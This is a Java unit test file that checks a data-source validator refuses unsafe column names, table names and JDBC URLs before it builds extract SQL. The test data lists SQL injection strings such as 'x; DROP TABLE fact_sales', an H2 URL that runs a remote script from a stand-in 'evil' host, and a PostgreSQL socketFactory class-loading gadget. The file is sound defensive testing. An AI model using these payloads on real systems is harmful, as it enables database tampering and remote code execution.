package com.consumer360.sources;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import org.junit.jupiter.api.Test;

/** Configured names reach the extract SQL only as plain identifiers; URLs and schedules are checked at the field. */
class SourceDefinitionTest {

    static final List<String> HOSTILE = List.of("x; DROP TABLE fact_sales", "x--", "x/*", "\"x\"", "[x]", "x y",
            "x'", "1x", "x)", "x.y", "", "x\u0000", "ｘ", "x\ny", "x,y", "x=1 OR 1=1", "a".repeat(129));

    private static SourceDefinition withColumn(String column) {
        SourceDefinition d = SourceDefinition.example();
        return new SourceDefinition(0, "erp", d.jdbcUrl(), d.username(), false, d.factTable(), column,
                d.invoiceTsColumn(), d.productColumn(), d.descriptionColumn(), d.quantityColumn(), d.unitPriceColumn(),
                d.customerColumn(), d.customerTable(), d.customerKeyColumn(), d.countryColumn(), d.hwmColumn(),
                d.hwmKind(), null, "EAST", d.cron(), false);
    }

    private static SourceDefinition withTable(String table) {
        SourceDefinition d = withColumn("InvoiceNo");
        return new SourceDefinition(0, "erp", d.jdbcUrl(), d.username(), false, table, d.invoiceColumn(),
                d.invoiceTsColumn(), d.productColumn(), d.descriptionColumn(), d.quantityColumn(), d.unitPriceColumn(),
                d.customerColumn(), d.customerTable(), d.customerKeyColumn(), d.countryColumn(), d.hwmColumn(),
                d.hwmKind(), null, "EAST", d.cron(), false);
    }

    private static SourceDefinition withUrl(String url) {
        SourceDefinition d = withColumn("InvoiceNo");
        return new SourceDefinition(0, "erp", url, d.username(), false, d.factTable(), d.invoiceColumn(),
                d.invoiceTsColumn(), d.productColumn(), d.descriptionColumn(), d.quantityColumn(), d.unitPriceColumn(),
                d.customerColumn(), d.customerTable(), d.customerKeyColumn(), d.countryColumn(), d.hwmColumn(),
                d.hwmKind(), null, "EAST", d.cron(), false);
    }

    @Test
    void theExampleIsValidAndItsExtractNamesItsColumns() {
        SourceDefinition example = withColumn("InvoiceNo");
        assertThat(example.problems()).isEmpty();
        String sql = ExtractSql.of(example);
        assertThat(sql).contains("f.InvoiceNo     AS invoice_id", "FROM dbo.SalesLine f",
                "LEFT JOIN dbo.Customer c ON c.CustomerID = f.CustomerID", "WHERE f.SalesLineID > ?",
                "ORDER BY f.SalesLineID").doesNotContain("{", "}", "--");
    }

    @Test
    void hostileColumnNamesAreRefusedAtTheFieldAndNeverReachTheSql() {
        for (String hostile : HOSTILE) {
            SourceDefinition source = withColumn(hostile);
            assertThat(source.problems()).as(hostile).containsKey("invoice_column");
            assertThatThrownBy(() -> ExtractSql.of(source)).as(hostile).isInstanceOf(IllegalArgumentException.class);
        }
    }

    @Test
    void hostileTableNamesAreRefusedAtTheFieldAndNeverReachTheSql() {
        for (String hostile : List.of("dbo.x; DROP TABLE y", "dbo..x", "a.b.c.d", "dbo.[x]", "dbo.\"x\"", "dbo.x--",
                "x y", ".x", "x.")) {
            SourceDefinition source = withTable(hostile);
            assertThat(source.problems()).as(hostile).containsKey("fact_table");
            assertThatThrownBy(() -> ExtractSql.of(source)).as(hostile).isInstanceOf(IllegalArgumentException.class);
        }
        assertThat(withTable("Sales.dbo.SalesLine").problems()).isEmpty();
    }

    @Test
    void urlsAreSqlServerOrPostgresqlWithoutPasswordsOrClassLoadingProperties() {
        assertThat(withUrl("jdbc:sqlserver://db:1433;databaseName=Sales;encrypt=true").problems()).isEmpty();
        assertThat(withUrl("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'").problems()).containsKey("jdbcUrl");
        assertThat(withUrl("jdbc:sqlserver://db;password=secret").problems().get("jdbcUrl"))
                .isEqualTo("no password in the URL: use the password field");
        assertThat(withUrl("jdbc:postgresql://db/x?socketFactory=org.springframework.context.support."
                + "ClassPathXmlApplicationContext").problems()).containsKey("jdbcUrl");
        assertThat(withUrl("jdbc:sqlserver://db;trustManagerClass=x.Y").problems()).containsKey("jdbcUrl");
    }

    @Test
    void theScheduleIsAQuartzCronAndARegionIsNeeded() {
        SourceDefinition d = withColumn("InvoiceNo");
        SourceDefinition bad = new SourceDefinition(0, "erp", d.jdbcUrl(), d.username(), false, d.factTable(),
                d.invoiceColumn(), d.invoiceTsColumn(), d.productColumn(), d.descriptionColumn(), d.quantityColumn(),
                d.unitPriceColumn(), d.customerColumn(), d.customerTable(), d.customerKeyColumn(), d.countryColumn(),
                d.hwmColumn(), d.hwmKind(), null, null, "every night", false);
        assertThat(bad.problems()).containsKeys("cron", "defaultRegion");
    }
}
